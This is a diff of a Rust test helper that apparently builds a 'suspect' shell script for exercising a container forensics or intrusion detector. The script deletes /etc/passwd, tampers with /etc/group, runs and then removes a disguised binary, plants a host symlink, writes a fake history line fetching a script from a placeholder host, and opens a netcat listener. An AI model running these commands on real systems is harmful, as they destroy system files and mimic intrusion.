@@ -22,7 +22,7 @@ pub fn unique(prefix: &str) -> String {
 /// it then deletes, listens on TCP 7777, plants a symlink to a host path, leaves a shell history.
 pub fn suspect_script(host_link: &str) -> String {
     format!(
-        "echo planted-4242 > /tmp/new.txt; rm /etc/passwd; echo changed >> /etc/group; \
+        "echo suspect-up; echo planted-4242 > /tmp/new.txt; rm /etc/passwd; echo changed >> /etc/group; \
          cp /bin/busybox /tmp/sleep; /tmp/sleep 1000 & sleep 0.5; rm /tmp/sleep; \
          ln -s {host_link} /tmp/evil; mkdir -p /root; echo 'wget http://example.invalid/x.sh' > /root/.ash_history; \
          nc -l -p 7777 & echo ready > /tmp/ready; while true; do sleep 1000; done"
